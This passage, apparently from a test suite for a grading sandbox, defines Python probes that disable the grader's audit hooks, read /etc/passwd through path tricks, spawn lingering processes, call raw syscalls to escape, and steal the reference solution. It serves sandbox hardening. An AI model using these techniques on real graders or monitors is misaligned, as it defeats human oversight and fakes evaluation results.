       'the same free variables, then do the forbidden part.',
       PASSWD + '''

def _pb_noop_code(freevars):
    src = 'def _pb_outer():\\n'
    src += ''.join('    %s = None\\n' % v for v in freevars)
    src += '    def _pb_noop(*args, **kwargs):\\n'
    if freevars:
        src += '        (%s,)\\n' % ', '.join(freevars)
    src += '        return None\\n    return _pb_noop\\n'
    ns = {}
    exec(compile(src, '<probe_b noop>', 'exec'), ns)
    return ns['_pb_outer']().__code__


def _pb_attack():
    import gc
    import types
    for obj in gc.get_objects():
        fn = obj.__func__ if isinstance(obj, types.MethodType) else obj
        if not isinstance(fn, types.FunctionType):
            continue
        mod = getattr(fn, '__module__', '') or ''
        qual = (getattr(fn, '__qualname__', '') or '').lower()
        if mod.startswith('grader') and ('audit' in qual or 'hook' in qual):
            code = fn.__code__
            _pb_quiet(setattr, fn, '__code__', _pb_noop_code(code.co_freevars))
    _pb_forbidden()


_pb_quiet(_pb_attack)
''',
       'gc.get_objects and replacing __code__ are audited events the hook sees; whatever it lets through, '
       'the forbidden part fails (ok if unseen, sandbox if seen). ' + NOFOOL + '; ' + UNSEEN + '; '
       + BREACH + '.')

attack('sil03_path_tricks', 'silence_the_witness', 'python', ['ok', 'sandbox'],
       'Fool the path check: a PathLike whose __fspath__ changes between calls, bytes, /proc/self/root, '
       '/proc/self/cwd/../.., doubled slashes, a symlink and a hard link in its own folder pointing '
       'outside, dir_fd of an O_PATH descriptor of /, chdir("/etc").',
       '''

def _pb_attack():
    class Flip(object):
        calls = 0

        def __fspath__(self):
            Flip.calls += 1
            return _pb_os.path.join(_PB_DIR, 'compgraph.py') if Flip.calls == 1 else '/etc/passwd'
    tries = [Flip(), b'/etc/passwd', '/proc/self/root/etc/passwd', '/proc/self/cwd/' + '../' * 16 + 'etc/passwd',
             _pb_os.path.join(_PB_DIR, '../' * 16, 'etc/passwd'), '//etc//passwd', '/./etc/./passwd']
    link = _pb_os.path.join(_PB_DIR, 'probe_b_sil03_link')
    if _pb_quiet(_pb_os.symlink, '/etc', link) is None:
        tries.append(_pb_os.path.join(link, 'passwd'))
    hard = _pb_os.path.join(_PB_DIR, 'probe_b_sil03_hard')
    if _pb_quiet(_pb_os.link, '/etc/passwd', hard) is None:
        _pb_quiet(_pb_os.unlink, hard)  # never leave a link to a system file behind
        _pb_breach('hard-linked /etc/passwd into its folder')
    got = []
    for path in tries:
        data = _pb_quiet(_pb_read, path, 4096)
        if isinstance(data, bytes) and b'root:' in data:
            got.append(repr(path))

    def via_dirfd():
        d = _pb_os.open('/', _pb_os.O_PATH)
        try:
            f = _pb_os.open('etc/passwd', _pb_os.O_RDONLY, dir_fd=d)
            try:
                return _pb_os.read(f, 4096)
            finally:
                _pb_os.close(f)
        finally:
            _pb_os.close(d)

    def via_chdir():
        old = _pb_os.getcwd()
        _pb_os.chdir('/etc')
        try:
            return _pb_read('passwd', 4096)
        finally:
            _pb_os.chdir(old)
    for fn in (via_dirfd, via_chdir):
        data = _pb_quiet(fn)
        if isinstance(data, bytes) and b'root:' in data:
            got.append(fn.__name__)
    _pb_quiet(_pb_os.unlink, link)
    if got:
        _pb_breach('read /etc/passwd through %s' % ', '.join(got))


_pb_quiet(_pb_attack)
''',
       'the hook copies every path to a plain string and follows chdir and dir_fd= (sandbox); what slips '
       'past it meets Landlock, unseen (ok). ' + NOFOOL + '; ' + UNSEEN + '; ' + BREACH + '.')

attack('sil04_unaudited_c', 'silence_the_witness', 'python', ['ok', 'sandbox'],
       'Let C code touch files the hook never hears of: sqlite3 opening /etc/passwd read-only and creating '
       '/var/tmp/probe_b_sil04.sqlite, os.mkfifo and os.mknod in /tmp, /var/tmp, /dev/shm (none of these '
       'raise an audit event naming the path the hook checks, or none at all).',
       '''

def _pb_attack():
    import sqlite3
    import stat
    try:
        con = sqlite3.connect('file:/etc/passwd?mode=ro&immutable=1', uri=True)
        con.execute('pragma schema_version').fetchall()
    except sqlite3.DatabaseError as exc:
        if 'not a database' in str(exc):
            _pb_breach('sqlite3 read /etc/passwd')
    except BaseException:
        pass
    made = []

    def create_db():
        con = sqlite3.connect('/var/tmp/probe_b_sil04.sqlite')
        con.execute('create table if not exists t (x)')
        con.commit()
        con.close()
    _pb_quiet(create_db)
    for d in ('/tmp', '/var/tmp', '/dev/shm'):
        _pb_quiet(_pb_os.mkfifo, _pb_os.path.join(d, 'probe_b_sil04_fifo'))
        _pb_quiet(_pb_os.mknod, _pb_os.path.join(d, 'probe_b_sil04_node'), stat.S_IFREG | 0o644)
    for path in ('/var/tmp/probe_b_sil04.sqlite', '/tmp/probe_b_sil04_fifo', '/var/tmp/probe_b_sil04_fifo',
                 '/dev/shm/probe_b_sil04_fifo', '/tmp/probe_b_sil04_node', '/var/tmp/probe_b_sil04_node',
                 '/dev/shm/probe_b_sil04_node'):
        if _pb_os.path.lexists(path):
            made.append(path)
    if made:
        _pb_breach('created outside its folder: %s' % ', '.join(made))


_pb_quiet(_pb_attack)
''',
       'no audit event (or one the hook may not check) reaches the hook; Landlock and the read-only '
       'private mounts refuse unseen (ok), or the hook sees sqlite3.connect (sandbox). ' + PRIVATE + '; '
       + UNSEEN + '; ' + BREACH + '.')

attack('sil05_subinterpreter', 'silence_the_witness', 'python', ['ok', 'sandbox'],
       'Python audit hooks belong to one interpreter: run the forbidden part in a new subinterpreter '
       '(_xxsubinterpreters / _interpreters), which reports through a file in its own folder.',
       '''

def _pb_attack():
    try:
        import _xxsubinterpreters as si
    except ImportError:
        import _interpreters as si
    result = _pb_os.path.join(_PB_DIR, 'probe_b_sil05_result.txt')
    script = """
import os
out = []
try:
    with open('/etc/passwd', 'rb') as fh:
        out.append('READ %d' % len(fh.read()))
except Exception as exc:
    out.append('FAIL %r' % (exc,))
try:
    os.listdir('/')
    out.append('LISTED')
except Exception as exc:
    out.append('FAIL %r' % (exc,))
try:
    with open('/tmp/probe_b_sil05.txt', 'w') as fh:
        fh.write('x')
    out.append('WROTE')
except Exception as exc:
    out.append('FAIL %r' % (exc,))
with open(%r, 'w') as fh:
    fh.write(chr(10).join(out))
""" % result
    iid = si.create()
    try:
        run = getattr(si, 'run_string', None) or getattr(si, 'exec')
        run(iid, script)
    finally:
        _pb_quiet(si.destroy, iid)
    text = _pb_read(result).decode('utf-8', 'replace')
    if 'READ ' in text:
        _pb_breach('a subinterpreter read /etc/passwd')


_pb_quiet(_pb_attack)
''',
       'creating an interpreter raises cpython.PyInterpreterState_New to the hook (sandbox if refused); '
       'inside, Landlock still refuses, unseen (ok). ' + NOFOOL + '; ' + UNSEEN + '; ' + BREACH + '.')

attack('sil06_compile_libname', 'silence_the_witness', 'python', ['sandbox'],
       'Code compiled under NumPy\'s, os\'s and the grader\'s file names (compile() and code.replace), '
       'so that its refusals look like a library\'s, then the forbidden read.',
       '''

def _pb_attack():
    import types
    names = [np.__file__, _pb_os.__file__, _pb_os.path.join(_pb_os.path.dirname(np.__file__), '_core', 'x.py')]
    try:
        import grader
        names.append(_pb_os.path.abspath(grader.__file__))
    except BaseException:
        pass
    src = 'def _pb_grab(p):\\n    with open(p, "rb") as fh:\\n        return fh.read(4096)\\n'
    for fake in names:
        code = _pb_quiet(compile, src, fake, 'exec')
        if isinstance(code, types.CodeType):
            ns = {}
            exec(code, ns)
            data = _pb_quiet(ns['_pb_grab'], '/etc/passwd')
            if isinstance(data, bytes) and b'root:' in data:
                _pb_breach('read /etc/passwd as %s' % fake)
    code = _pb_quiet(lambda: (lambda p: open(p, 'rb').read(4096)).__code__.replace(co_filename=np.__file__))
    if isinstance(code, types.CodeType):
        fn = types.FunctionType(code, {'open': open})
        data = _pb_quiet(fn, '/etc/passwd')
        if isinstance(data, bytes) and b'root:' in data:
            _pb_breach('read /etc/passwd with a renamed code object')


_pb_quiet(_pb_attack)
''',
       COMPILED + '; the compile (or the read) is refused and reported. ' + PIPE + '; ' + BREACH + '.')

attack('sil07_launder_library', 'silence_the_witness', 'python', ['sandbox'],
       'Have libraries read for it: linecache.getline, pathlib.read_text, np.loadtxt, shutil.copyfile into '
       'its folder, glob.glob, io.open_code, tokenize.open, zipfile.is_zipfile on /etc/passwd.',
       '''

def _pb_attack():
    import glob
    import io
    import linecache
    import pathlib
    import shutil
    import tokenize
    import zipfile
    got = []
    copy = _pb_os.path.join(_PB_DIR, 'probe_b_sil07_copy')
    steps = [('linecache', lambda: linecache.getline('/etc/passwd', 1)),
             ('pathlib', lambda: pathlib.Path('/etc/passwd').read_text()),
             ('loadtxt', lambda: ' '.join(np.loadtxt('/etc/passwd', dtype=str, delimiter='\\t', comments=None, ndmin=1))),
             ('copyfile', lambda: (shutil.copyfile('/etc/passwd', copy), _pb_read(copy).decode())[1]),
             ('glob', lambda: ' '.join(glob.glob('/etc/pass*'))),
             ('open_code', lambda: io.open_code('/etc/passwd').read().decode()),
             ('tokenize', lambda: tokenize.open('/etc/passwd').read()),
             ('zipfile', lambda: str(zipfile.is_zipfile('/etc/passwd')))]
    for name, step in steps:
        data = _pb_quiet(step)
        if isinstance(data, str) and 'root:' in data:
            got.append(name)
    _pb_quiet(_pb_os.remove, copy)
    if got:
        _pb_breach('libraries read /etc/passwd for it: %s' % ', '.join(got))


_pb_quiet(_pb_attack)
''',
       STUDENT + '; a library called by the student\'s code is the student\'s attempt: refused and '
       'reported. ' + HOOK + '; ' + PIPE + '; ' + BREACH + '.')

attack('sil08_traceback_frames', 'silence_the_witness', 'python', ['sandbox'],
       'Provoke a refusal, walk its traceback (tb_frame, f_back) into the hook\'s frames and widen any '
       'list or set of allowed paths found in their locals and globals with "/", then read again.',
       '''

def _pb_attack():
    import types
    frames = []
    try:
        _pb_read('/etc/passwd', 64)
    except BaseException as exc:
        for e in (exc, exc.__context__, exc.__cause__):
            tb = getattr(e, '__traceback__', None)
            while tb is not None:
                f = _pb_quiet(getattr, tb, 'tb_frame')
                if isinstance(f, types.FrameType):
                    frames.append(f)
                tb = tb.tb_next
    seen = []
    for f in frames:
        for _ in range(64):
            if not isinstance(f, types.FrameType) or f in seen:
                break
            seen.append(f)
            f = _pb_quiet(getattr, f, 'f_back')
    for f in seen:
        code = f.f_code
        if 'grader' not in code.co_filename or not any(w in code.co_name.lower() for w in ('audit', 'hook', 'check', 'allow')):
            continue
        for scope in (f.f_locals, f.f_globals):
            for value in list(scope.values()):
                if isinstance(value, (list, set)) and value and all(isinstance(x, str) for x in value) \\
                        and any(x.startswith('/') for x in value):
                    _pb_quiet(value.append if isinstance(value, list) else value.add, '/')
    data = _pb_quiet(_pb_read, '/etc/passwd', 4096)
    if isinstance(data, bytes) and b'root:' in data:
        _pb_breach('read /etc/passwd after widening the hook\\'s tables')


_pb_quiet(_pb_attack)
''',
       'the provoking read is itself refused and reported. ' + COMPILED + '; ' + PIPE + '; ' + BREACH + '.')

attack('sil09_trace_jump', 'silence_the_witness', 'python', ['ok', 'sandbox'],
       'Mark the grader\'s hook functions (found with gc.get_objects) traceable (__cantrace__), then a '
       'sys.settrace tracer jumps each traced hook frame to a "return None" line before it can refuse; '
       'then the forbidden part.',
       PASSWD + '''

def _pb_attack():
    import dis
    import gc
    import types
    hooks = []
    for obj in gc.get_objects():
        fn = obj.__func__ if isinstance(obj, types.MethodType) else obj
        if isinstance(fn, types.FunctionType):
            mod = getattr(fn, '__module__', '') or ''
            qual = (getattr(fn, '__qualname__', '') or '').lower()
            if mod.startswith('grader') and ('audit' in qual or 'hook' in qual):
                hooks.append(fn)
    targets = {}
    for fn in hooks:
        _pb_quiet(setattr, fn, '__cantrace__', True)
        code = fn.__code__
        lines, prev = [], None
        for ins in dis.get_instructions(code):
            if ins.opname in ('RETURN_VALUE', 'RETURN_CONST') and ins.positions and ins.positions.lineno:
                if ins.opname == 'RETURN_CONST' and ins.argval is None or \\
                        (prev is not None and prev.opname == 'LOAD_CONST' and prev.argval is None):
                    lines.append(ins.positions.lineno)
            prev = ins
        if lines:
            targets[code] = lines

    def local(frame, event, arg):
        if event == 'line':
            for line in targets.get(frame.f_code, ()):
                if line != frame.f_lineno:
                    try:
                        frame.f_lineno = line
                        break
                    except BaseException:
                        continue
        return local

    def glob(frame, event, arg):
        return local if frame.f_code in targets else None
    old = _pb_sys.gettrace()
    _pb_sys.settrace(glob)
    try:
        _pb_forbidden()
    finally:
        _pb_sys.settrace(old)


_pb_quiet(_pb_attack)
''',
       'gc.get_objects and sys.settrace are audited events (sandbox if refused); a hook jumped past fails '
       'open on Landlock, unseen (ok). ' + NOFOOL + '; ' + UNSEEN + '; ' + BREACH + '.')

attack('sil10_import_hook', 'silence_the_witness', 'python', ['sandbox'],
       'Import torch/autograd/jax/tensorflow plainly (refused), then take the grader\'s finders out of '
       'sys.meta_path and load them with importlib.import_module and PathFinder + exec_module; a real '
       'forbidden library loaded that way is a breach. Also loads a harmless autograd.py of its own.',
       '''

def _pb_attack():
    import importlib
    import importlib.machinery
    import importlib.util
    import types
    names = ('torch', 'autograd', 'jax', 'tensorflow')
    for name in names:
        _pb_quiet(__import__, name)
    finders = list(_pb_sys.meta_path)
    kept = [f for f in finders if 'grader' not in (getattr(type(f), '__module__', '') or '')
            and 'grader' not in (getattr(f, '__module__', '') or '')]
    try:
        _pb_sys.meta_path[:] = kept
        for name in names:
            mod = _pb_quiet(importlib.import_module, name)
            if isinstance(mod, types.ModuleType) and getattr(mod, '__file__', None):
                _pb_breach('imported %s around the import hook' % name)
            spec = _pb_quiet(importlib.machinery.PathFinder.find_spec, name)
            if spec is not None and not isinstance(spec, BaseException) and spec.loader is not None:
                def load(spec=spec):
                    mod = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(mod)
                    return mod
                if isinstance(_pb_quiet(load), types.ModuleType):
                    _pb_breach('loaded %s with PathFinder around the import hook' % name)
    finally:
        _pb_sys.meta_path[:] = finders
    fake = _pb_os.path.join(_PB_DIR, 'autograd.py')

    def own_module():
        with open(fake, 'w') as fh:
            fh.write('VALUE = 1\\n')
        spec = importlib.util.spec_from_file_location('autograd', fake)
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
        return mod.VALUE
    _pb_quiet(own_module)
    _pb_quiet(_pb_os.remove, fake)


_pb_quiet(_pb_attack)
''',
       IMPORTS + '; ' + NOFOOL + '; ' + PIPE + '; ' + BREACH + '.')

# =============================================================================== outlive
attack('out01_threads', 'outlive', 'python', ['ok'],
       'Non-daemon and daemon threads and a threading.Timer started at import and in the first loss() '
       'call, each living up to 5.7 s (sleeps of 1.9 s): threads, not processes.',
       '''

def _pb_linger(n=3):
    import time
    for _ in range(n):
        time.sleep(1.9)


def _pb_attack():
    import threading
    threading.Thread(target=_pb_linger, name='probe_b_out01_a').start()
    threading.Thread(target=_pb_linger, name='probe_b_out01_b', daemon=True).start()
    threading.Timer(1.5, lambda: None).start()


_pb_quiet(_pb_attack)
_PB_HONEST_LOSS = loss


def loss(y_hat, y):
    if not _PB_KEEP:
        import threading
        _PB_KEEP.append(1)
        _pb_quiet(lambda: threading.Thread(target=_pb_linger, name='probe_b_out01_c').start())
    return _PB_HONEST_LOSS(y_hat, y)
''',
       THREADS + '; no process is left behind, nothing is refused: ok with full marks. ' + PIDNS + '.',
       lo=20)

attack('out02_fork_daemon', 'outlive', 'python', ['sandbox'],
       'os.fork, setsid, fork again: a grandchild that lives 5.7 s after the worker.',
       '''

def _pb_attack():
    if not _pb_once('out02'):
        return
    pid = _pb_os.fork()
    if pid == 0:
        try:
            _pb_quiet(_pb_os.setsid)
            if _pb_os.fork() == 0:
                import time
                for _ in range(3):
                    time.sleep(1.9)
        finally:
            _pb_os._exit(0)
    _pb_quiet(_pb_os.waitpid, pid, 0)


_pb_quiet(_pb_attack)
''',
       'os.fork is refused by the hook and killed by seccomp; a process left behind is counted. ' + HOOK
       + '; ' + SECCOMP + '; ' + PIPE + '.')

attack('out03_clone_native', 'outlive', 'native', ['sandbox'],
       'Raw clone(SIGCHLD) (56) after emptying the audit hook list: a child that lives 5.7 s.',
       '''

def _pb_attack():
    _pb_silence()
    if not _pb_once('out03'):
        return
    r, _ = _pb_syscall(56, 17, 0, 0, 0, 0)  # clone(SIGCHLD, 0, 0, 0, 0): a fork
    if r == 0:
        try:
            import time
            for _ in range(3):
                time.sleep(1.9)
        finally:
            _pb_os._exit(0)


_pb_quiet(_pb_attack)
''',
       'starting a process is killed by seccomp (SIGSYS: sandbox); a surviving hook refuses ctypes '
       '(sandbox). ' + SECCOMP + '; ' + PIDNS + '.')

attack('out04_ipc_objects_native', 'outlive', 'native', ['ok', 'sandbox'],
       'IPC objects never removed, after emptying the audit hook list: System V segment, queue and '
       'semaphore (keys 0x70620404-6), POSIX message queue /probe_b_out04 (mq_open) and POSIX shared '
       'memory /probe_b_out04.',
       '''

def _pb_attack():
    import _posixshmem
    _pb_silence()
    ctypes, libc = _pb_libc()
    _pb_quiet(libc.shmget, ctypes.c_int(0x70620404), ctypes.c_size_t(4096), ctypes.c_int(0o1600))
    _pb_quiet(libc.msgget, ctypes.c_int(0x70620405), ctypes.c_int(0o1600))
    _pb_quiet(libc.semget, ctypes.c_int(0x70620406), ctypes.c_int(1), ctypes.c_int(0o1600))
    _pb_quiet(libc.mq_open, ctypes.c_char_p(b'/probe_b_out04'), ctypes.c_int(0o100 | 0o2), ctypes.c_int(0o600), None)
    fd = _pb_quiet(_posixshmem.shm_open, '/probe_b_out04', _pb_os.O_CREAT | _pb_os.O_RDWR, 0o600)
    if isinstance(fd, int):
        _pb_os.close(fd)


_pb_quiet(_pb_attack)
''',
       'in its own IPC namespace these calls are allowed and die with it (ok); without namespaces seccomp '
       'kills System V calls, and a surviving hook refuses ctypes (sandbox). ' + IPC + '; ' + ALONE + '; '
       + SECCOMP_NS + '.')

attack('out05_files_outside', 'outlive', 'python', ['sandbox'],
       'Files and folders left in /tmp, /var/tmp, /dev/shm with open() and os.mkdir.',
       '''

def _pb_attack():
    for d in ('/tmp', '/var/tmp', '/dev/shm'):
        def write(d=d):
            with open(_pb_os.path.join(d, 'probe_b_out05.txt'), 'w') as fh:
                fh.write('left behind by probe_b out05\\n')
        _pb_quiet(write)
        _pb_quiet(_pb_os.mkdir, _pb_os.path.join(d, 'probe_b_out05_dir'))


_pb_quiet(_pb_attack)
''',
       'writing outside its folder is refused and reported. ' + HOOK + '; ' + PIPE + '; ' + PRIVATE + '.')

attack('out06_files_unaudited', 'outlive', 'python', ['ok', 'sandbox'],
       'Leave files outside with calls that raise no audit event: os.mknod, os.mkfifo in /tmp, /var/tmp, '
       '/dev/shm, and a POSIX shared memory object; anything that exists afterwards is a breach.',
       '''

def _pb_attack():
    import _posixshmem
    import stat
    made = []
    for d in ('/tmp', '/var/tmp', '/dev/shm'):
        for name, make in (('probe_b_out06_node', lambda p: _pb_os.mknod(p, stat.S_IFREG | 0o644)),
                           ('probe_b_out06_fifo', lambda p: _pb_os.mkfifo(p, 0o644))):
            path = _pb_os.path.join(d, name)
            if _pb_quiet(make, path) is None:
                made.append(path)
    fd = _pb_quiet(_posixshmem.shm_open, '/probe_b_out06', _pb_os.O_CREAT | _pb_os.O_RDWR, 0o600)
    if isinstance(fd, int):
        _pb_os.close(fd)
        made.append('/dev/shm/probe_b_out06')
    if made:
        _pb_breach('made %s outside its folder' % ', '.join(made))


_pb_quiet(_pb_attack)
''',
       'no audit event, so Landlock and the read-only private mounts refuse unseen (ok). ' + PRIVATE + '; '
       + UNSEEN + '; ' + BREACH + '.')

attack('out07_cleanup_resist', 'outlive', 'python', ['ok'],
       'Make its own folder hard to remove: a read-only subfolder holding a file, a mode-000 file, a '
       'non-UTF-8 name, a FIFO, a 60-deep tree and a descriptor left open.',
       '''

def _pb_attack():
    base = _pb_os.path.join(_PB_DIR, 'probe_b_out07')
    _pb_os.makedirs(base, exist_ok=True)

    def readonly():
        ro = _pb_os.path.join(base, 'readonly')
        _pb_os.makedirs(ro, exist_ok=True)
        with open(_pb_os.path.join(ro, 'inside.txt'), 'w') as fh:
            fh.write('x')
        _pb_os.chmod(ro, 0o500)

    def noperm():
        path = _pb_os.path.join(base, 'noperm.txt')
        with open(path, 'w') as fh:
            fh.write('x')
        _pb_os.chmod(path, 0)

    def odd_name():
        with open(_pb_os.path.join(base.encode(), b'name-\\xff\\xfe.bin'), 'wb') as fh:
            fh.write(b'x')

    def deep():
        path = base
        for i in range(60):
            path = _pb_os.path.join(path, 'd%02d' % i)
        _pb_os.makedirs(path, exist_ok=True)
        with open(_pb_os.path.join(path, 'bottom.txt'), 'w') as fh:
            fh.write('x')

    def still_open():
        _PB_KEEP.append(_pb_os.open(_pb_os.path.join(base, 'open.txt'), _pb_os.O_CREAT | _pb_os.O_WRONLY, 0o600))
    for step in (readonly, noperm, odd_name, deep, still_open):
        _pb_quiet(step)
    _pb_quiet(_pb_os.mkfifo, _pb_os.path.join(base, 'fifo'))


_pb_quiet(_pb_attack)
''',
       'everything happens inside its own folder, which it may write: ok with full marks; the folder '
       'is the grader\'s to remove. ' + QUOTA + '; ' + LANDLOCK + '.', lo=20)

attack('out08_sigterm_pgid_atexit', 'outlive', 'python', ['ok', 'sandbox'],
       'Ignore SIGTERM/SIGINT/SIGHUP/SIGUSR1/2, try setpgid and setsid to leave its process group, and '
       'register an atexit handler that lingers 3.8 s and os.mknod-s /tmp/probe_b_out08_atexit.',
       '''

def _pb_at_exit():
    import stat
    import time
    _pb_quiet(_pb_os.mknod, '/tmp/probe_b_out08_atexit', stat.S_IFREG | 0o644)
    for _ in range(2):
        time.sleep(1.9)


def _pb_attack():
    import atexit
    import signal
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGUSR2):
        _pb_quiet(signal.signal, sig, signal.SIG_IGN)
    _pb_quiet(_pb_os.setpgid, 0, 0)
    _pb_quiet(_pb_os.setsid)
    atexit.register(_pb_at_exit)


_pb_quiet(_pb_attack)
''',
       'a worker that hangs is killed with its group, and its namespace\'s init counts what is left; '
       'nothing here is refused unless the hook or seccomp objects (sandbox). ' + LIMITS + '; ' + PIDNS
       + '; ' + PRIVATE + '.')

# =============================================================================== escape (native)
attack('esc01_execve', 'escape', 'native', ['sandbox'],
       'execve("/bin/true") (59) after emptying the audit hook list.',
       '''

def _pb_attack():
    _pb_silence()
    if not _pb_once('esc01'):
        return
    ctypes, libc = _pb_libc()
    argv = (ctypes.c_char_p * 2)(b'/bin/true', None)
    envp = (ctypes.c_char_p * 1)(None)
    _pb_syscall(59, ctypes.c_char_p(b'/bin/true'), argv, envp)


_pb_quiet(_pb_attack)
''',
       'starting a program is killed by seccomp (SIGSYS: sandbox); a surviving hook refuses ctypes '
       '(sandbox); a successful execve would end the worker (crashed, not accepted). ' + SECCOMP + '.')

attack('esc02_unshare_mount', 'escape', 'native', ['sandbox'],
       'unshare(CLONE_NEWUSER|CLONE_NEWNS) (272), then mount a tmpfs (165), after emptying the audit '
       'hook list.',
       '''

def _pb_attack():
    _pb_silence()
    if not _pb_once('esc02'):
        return
    ctypes, libc = _pb_libc()
    r, _ = _pb_syscall(272, 0x10000000 | 0x00020000)  # unshare(CLONE_NEWUSER | CLONE_NEWNS)
    if r == 0:
        _pb_breach('unshare(CLONE_NEWUSER|CLONE_NEWNS) allowed')
    r, _ = _pb_syscall(165, ctypes.c_char_p(b'none'), ctypes.c_char_p(_PB_DIR.encode()), ctypes.c_char_p(b'tmpfs'), 0, None)
    if r == 0:
        _pb_breach('mount allowed')


_pb_quiet(_pb_attack)
''',
       'mounts and namespaces are killed by seccomp (SIGSYS: sandbox). ' + SECCOMP + '; ' + BREACH + '.')

attack('esc03_io_uring', 'escape', 'native', ['sandbox'],
       'io_uring_setup (425) after emptying the audit hook list (io_uring would run file operations '
       'seccomp never sees).',
       '''

def _pb_attack():
    _pb_silence()
    if not _pb_once('esc03'):
        return
    ctypes, libc = _pb_libc()
    params = ctypes.create_string_buffer(120)
    r, _ = _pb_syscall(425, 4, params)
    if r >= 0:
        _pb_os.close(r)
        _pb_breach('io_uring_setup allowed')


_pb_quiet(_pb_attack)
''',
       'io_uring is killed by seccomp (SIGSYS: sandbox). ' + SECCOMP + '; ' + BREACH + '.')

attack('esc04_bpf_perf', 'escape', 'native', ['sandbox'],
       'bpf(BPF_MAP_CREATE) (321) and perf_event_open on itself (298) after emptying the audit hook list.',
       '''

def _pb_attack():
    import struct
    _pb_silence()
    if not _pb_once('esc04'):
        return
    ctypes, libc = _pb_libc()
    attr = ctypes.create_string_buffer(struct.pack('<IIII', 1, 4, 4, 1) + b'\\0' * 56)  # hash map, 1 entry
    r, _ = _pb_syscall(321, 0, attr, 72)
    if r >= 0:
        _pb_os.close(r)
        _pb_breach('bpf(BPF_MAP_CREATE) allowed')
    pattr = ctypes.create_string_buffer(struct.pack('<IIQQQQQ', 1, 128, 0, 0, 0, 0, 1) + b'\\0' * 80)  # software clock, disabled
    r, _ = _pb_syscall(298, pattr, 0, -1, -1, 0)
    if r >= 0:
        _pb_os.close(r)
        _pb_breach('perf_event_open allowed')


_pb_quiet(_pb_attack)
''',
       'BPF and perf are killed by seccomp (SIGSYS: sandbox). ' + SECCOMP + '; ' + BREACH + '.')

attack('esc05_keyring_uffd', 'escape', 'native', ['sandbox'],
       'add_key("user", ...) into its process keyring (248), then userfaultfd (323), after emptying the '
       'audit hook list.',
       '''

def _pb_attack():
    _pb_silence()
    if not _pb_once('esc05'):
        return
    ctypes, libc = _pb_libc()
    r, _ = _pb_syscall(248, ctypes.c_char_p(b'user'), ctypes.c_char_p(b'probe_b_esc05'), ctypes.c_char_p(b'x'), 1, -2)
    if r >= 0:
        _pb_breach('add_key allowed')
    r, _ = _pb_syscall(323, 0o2000000 | 1)  # userfaultfd(O_CLOEXEC | UFFD_USER_MODE_ONLY)
    if r >= 0:
        _pb_os.close(r)
        _pb_breach('userfaultfd allowed')


_pb_quiet(_pb_attack)
''',
       'keyrings and userfaultfd are killed by seccomp (SIGSYS: sandbox). ' + SECCOMP + '; ' + BREACH + '.')

CASES.append(dict(
    name='esc06_open_by_handle', cls='escape', language='native', status=['ok', 'sandbox'], min=0, max=14,
    summary=('name_to_handle_at (303) and open_by_handle_at (304), which the documentation does not '
             'mention, after emptying the audit hook list: open the reference calculus.py and '
             '/etc/passwd by file handle through a descriptor of the grader package (CAP_DAC_READ_SEARCH '
             'may be kept). calculus.py holds no correct code.'),
    why=('not in the seccomp list; Landlock checks the opened file\'s path, so the open fails unseen (ok) '
         'unless seccomp kills it anyway (sandbox). ' + LANDLOCK + '; ' + UID + '; ' + UNSEEN + '; '
         + BREACH + '; ' + CHEAT + '.'),
    compgraph={'role': 'honest'},
    calculus={'role': 'cheat', 'attack': KIT + '''

def _pb_steal():
    _pb_silence()
    ctypes, libc = _pb_libc()
    at_fdcwd = -100

    class Handle(ctypes.Structure):
        _fields_ = [('handle_bytes', ctypes.c_uint), ('handle_type', ctypes.c_int),
                    ('f_handle', ctypes.c_ubyte * 128)]

    def handle_of(path):
        h = Handle()
        h.handle_bytes = 128
        mount_id = ctypes.c_int()
        r, _ = _pb_syscall(303, at_fdcwd, ctypes.c_char_p(path.encode()), ctypes.byref(h), ctypes.byref(mount_id), 0)
        return h if r == 0 else None

    mounts = []
    dirs = [_PB_DIR, _pb_os.path.dirname(np.__file__)]
    try:
        import grader
        dirs.insert(0, _pb_os.path.dirname(_pb_os.path.abspath(grader.__file__)))
    except BaseException:
        pass
    for d in dirs:
        fd = _pb_quiet(_pb_os.open, d, _pb_os.O_RDONLY | _pb_os.O_DIRECTORY)
        if isinstance(fd, int):
            mounts.append(fd)

    def read_by_handle(path, n):
        h = handle_of(path)
        if h is None:
            return None
        for m in mounts:
            fd, _ = _pb_syscall(304, m, ctypes.byref(h), _pb_os.O_RDONLY)
            if fd >= 0:
                try:
                    return _pb_os.read(fd, n)
                finally:
                    _pb_os.close(fd)
        return None
    try:
        data = read_by_handle('/etc/passwd', 4096)
        if data and b'root:' in data:
            _pb_breach('open_by_handle_at read /etc/passwd')
        for root in _pb_kit_roots():
            for rel in _PB_REL:
                data = read_by_handle(_pb_os.path.join(root, rel), 1 << 20)
                if _pb_is_solution(data):
                    return _pb_use(data)
    finally:
        for m in mounts:
            _pb_os.close(m)
    return False


_pb_quiet(_pb_steal)
'''}))

attack('esc07_cross_process', 'escape', 'native', ['ok', 'sandbox'],
       'Cross-process syscalls the documentation does not name, on the parent, after emptying the audit '
       'hook list: ioprio_set to its current I/O priority (251/252), get_robust_list (274), move_pages '
       'with no pages (279), kcmp (312).',
       '''

def _pb_attack():
    _pb_silence()
    if not _pb_once('esc07'):
        return
    ctypes, libc = _pb_libc()
    ppid = _pb_os.getppid()
    prio, _ = _pb_syscall(252, 1, ppid)            # ioprio_get(IOPRIO_WHO_PROCESS, ppid)
    if prio >= 0:
        r, _ = _pb_syscall(251, 1, ppid, prio)     # ioprio_set to the same value: harmless if it works
        if r == 0:
            _pb_breach('ioprio_set on process %d' % ppid)
    head, size = ctypes.c_void_p(), ctypes.c_size_t()
    r, _ = _pb_syscall(274, ppid, ctypes.byref(head), ctypes.byref(size))
    if r == 0:
        _pb_breach('get_robust_list read process %d' % ppid)
    r, _ = _pb_syscall(279, ppid, 0, None, None, None, 0)
    if r == 0:
        _pb_breach('move_pages reached process %d' % ppid)
    _pb_syscall(312, ppid, _pb_os.getpid(), 0, 0, 0)  # kcmp(KCMP_FILE): an answer tells little


_pb_quiet(_pb_attack)
''',
       'changing another process\'s priority and reaching its memory are refused (seccomp: sandbox; or '
       'EPERM for another uid: ok). ' + SECCOMP + '; ' + SECCOMP_NS + '; ' + UID + '; ' + BREACH + '.')

attack('esc08_host_identity', 'escape', 'native', ['ok', 'sandbox'],
       'Things outside no namespace covers, after emptying the audit hook list: sethostname to the '
       'current name (170; there is no UTS namespace), mknodat of a character device 1:3 in its own '
